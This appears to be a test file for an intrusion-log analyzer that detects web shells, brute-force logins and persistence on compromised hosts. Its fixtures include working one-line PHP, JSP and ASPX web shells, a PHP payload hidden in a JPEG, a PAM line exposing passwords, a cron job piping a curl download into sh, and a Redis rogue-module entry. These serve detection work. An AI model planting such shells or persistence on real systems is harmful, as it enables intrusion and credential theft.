/** Ways in and ways to stay that hosts of several kinds show, beside what ordinary hosts have in the same places. */
import { rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readIntrusion } from '../../../src/cli/logs/read-intrusion.ts';
import { judgeScript } from '../../../src/logs/intrusion/shells.ts';
import type { IntrusionSheet } from '../../../src/logs/intrusion/types.ts';
import { type Files, writeBundle } from '../../files.ts';

describe('scripts that run what the request sends by way of a variable', () => {
  it.each([
    ['a.php', '<?php $c = $_GET["c"]; @system($c);'],
    ['a.php', "<?php $a=base64_decode($_POST['z']);\n eval($a);"],
    ['a.jsp', '<% String c = request.getParameter("p"); Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",c}); %>'],
    ['a.aspx', '<%@ Page Language="Jscript"%><%var p=Request.Item["k"];eval(p,"unsafe");%>'],
    ['a.ashx', 'p.StartInfo.FileName="cmd.exe"; p.StartInfo.Arguments="/c "+c.Request["z"]; p.Start();'],
    [
      'a.aspx',
      'string c = Request["x"]; var p = new ProcessStartInfo("cmd.exe", "/c " + c); Response.Write(Process.Start(p));',
    ],
    ['a.php', "<?php $V=str_replace('Fq','','cFqreFqatFqe_FqfuFqncFqtioFqn'); $Y=$V('',$b);$Y();"],
  ])('are shells: %s %s', (file, text) => {
    expect(judgeScript(file, text)).toBeDefined();
  });

  it.each([
    ['a.php', '<?php $f = escapeshellarg($_POST["f"]); exec($f);'],
    ['a.php', '<?php $f = $_POST["f"]; $f = basename($f); exec($f);'],
    ['a.php', "<?php $t = str_replace('-', '', 'a-b-c'); echo $t;"],
    ['a.jsp', '<% String n = request.getParameter("n"); Process p = new ProcessBuilder("/usr/bin/uptime").start(); %>'],
    ['a.aspx', 'string c = Request["id"]; var p = new ProcessStartInfo("cmd.exe", "/c report.bat " + day);'],
    ['a.aspx', '<asp:Label Text=\'<%# Eval("Name") %>\' runat="server" />'],
  ])('are not those that clean it or run something else: %s %s', (file, text) => {
    expect(judgeScript(file, text)).toBeUndefined();
  });
});

it('names a kit before the trick that it uses', () => {
  const text = `<?php $key="900bc885d7553375"; $_SESSION['k']=$key; $t="base64_"."decode"; eval($t($p)); ?>`;
  expect(judgeScript('a.php', text)).toMatchObject({ family: 'Behinder', key: '900bc885d7553375' });
});

describe('a host', () => {
  const stamp = (i: number): string =>
    `12/Sep/2026:10:${String(Math.floor(i / 60)).padStart(2, '0')}:${String(i % 60).padStart(2, '0')} +0000`;
  const line = (i: number, client: string, request: string, status: number): string =>
    `${client} - - [${stamp(i)}] "${request} HTTP/1.1" ${status} 900 "-" "Mozilla/5.0"`;
  const access = [
    ...Array.from({ length: 60 }, (_, i) => line(i, `203.0.113.${i}`, 'GET /wp-admin/admin-ajax.php?action=x', 200)),
    ...Array.from({ length: 60 }, (_, i) => line(100 + i, '198.51.100.7', 'POST /wp-login.php', 200)),
    line(170, '198.51.100.7', 'POST /wp-login.php', 302),
    ...Array.from({ length: 6 }, (_, i) => line(200 + i, '203.0.113.9', 'POST /wp-login.php', 200)),
    line(210, '203.0.113.9', 'POST /wp-login.php', 302),
    line(220, '198.51.100.8', 'GET /.env', 404),
    line(230, '198.51.100.7', 'POST /uploads/banner.jpg', 200),
  ];
  const event = (id: number, data: object): string =>
    JSON.stringify({
      Event: {
        System: { EventID: id, TimeCreated: { '#attributes': { SystemTime: '2026-09-12T10:30:00.000Z' } } },
        EventData: data,
      },
    });
  const FILES: Files = {
    'access.log': `${access.join('\n')}\n`,
    'www/uploads/banner.jpg': Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]),
      Buffer.from('JFIF\0\x01<?php @assert($_POST["u"]); ?>'),
    ]),
    'www/uploads/.htaccess': 'AddType application/x-httpd-php .jpg\n',
    'www/.htaccess': 'RewriteEngine On\nAddType image/webp .webp\n',
    'www/.user.ini': 'memory_limit = 256M\n',
    'etc/pam.d/common-auth':
      'auth [success=1 default=ignore] pam_unix.so\nauth required pam_permit.so\nauth optional pam_exec.so quiet expose_authtok /usr/local/sbin/.p\n',
    'etc/cron.d/x': '* * * * * root sh -c "$(curl -fsSL http://a.example/i.sh)"\n',
    'etc/cron.d/y': '* * * * * root test -x /usr/bin/certbot && certbot -q renew\n',
    'root/.bash_history': 'wget -q http://192.0.2.9/a -O /dev/shm/.a\ncurl -o k.tgz https://dl.example.org/k.tgz\n',
    'redis.log': [
      '612:S 12 Sep 2026 04:22:40.020 * Connecting to MASTER 192.0.2.77:21000',
      "612:S 12 Sep 2026 04:22:41.300 * Module 'system' loaded from ./exp.so",
      '612:M 12 Sep 2026 04:22:44.100 * MASTER MODE enabled (user request)',
      '',
    ].join('\n'),
    'security.jsonl': `${event(4720, { TargetUserName: 'support$' })}\n${event(1102, { SubjectUserName: 'x' })}\n`,
    'run.reg': Buffer.from(
      '\ufeffWindows Registry Editor Version 5.00\r\n\r\n[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"Upd"="C:\\\\Users\\\\Public\\\\od.exe -k"\r\n',
      'utf16le',
    ),
  };
  const folder = writeBundle(FILES);
  let sheet: IntrusionSheet;
  beforeAll(async () => {
    ({ sheet } = await readIntrusion([folder], { now: '2026-09-13T00:00:00Z', crs: 'none' }));
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it('names who guessed the password of a form, and not who forgot it', () => {
    expect(sheet.bruteForce.map(({ address, tries, success }) => [address, tries, success !== undefined])).toEqual([
      ['198.51.100.7', 60, true],
    ]);
  });

  it('accuses nobody who asks for what the site has', () => {
    expect(sheet.attackers.map(({ address }) => address).sort()).toEqual([
      '192.0.2.77',
      '198.51.100.7',
      '198.51.100.8',
    ]);
  });

  it('finds code in an image that the server runs, and its use', () => {
    expect(sheet.webShells.map(({ file, uses }) => [file.slice(file.lastIndexOf('/') + 1), uses])).toEqual([
      ['banner.jpg', 1],
    ]);
  });

  it('finds what makes images scripts, takes passwords down, fetches or starts', () => {
    const why = sheet.persistence.map(
      ({ kind, proof }) => `${kind} ${proof.file.slice(proof.file.lastIndexOf('/') + 1)}`,
    );
    expect(why.sort()).toEqual([
      'cron x',
      'history .bash_history',
      'history security.jsonl',
      'pam common-auth',
      'run-key run.reg',
      'web-config .htaccess',
    ]);
  });

  it('tells the entry by Redis, the account that hides and the cleared log', () => {
    expect(sheet.entry?.how).toBe('module ./exp.so loaded into Redis as a replica of 192.0.2.77');
    expect(sheet.accounts.map(({ name }) => name)).toEqual(['support$']);
    expect(sheet.timeline.map(({ what }) => what)).toContain('history: an event log was cleared');
  });
});
